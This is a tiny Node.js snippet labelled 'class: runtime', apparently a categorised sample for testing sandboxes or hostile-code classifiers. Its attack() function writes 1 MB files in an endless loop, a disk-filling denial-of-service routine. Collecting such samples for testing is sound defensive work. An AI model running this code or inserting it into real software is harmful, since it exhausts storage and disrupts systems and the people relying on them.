// class: runtime
const fs = require('fs');

function attack() {
    for (let i = 0; ; ++i)
        fs.writeFileSync(`file${i}`, Buffer.alloc(1 << 20));
}
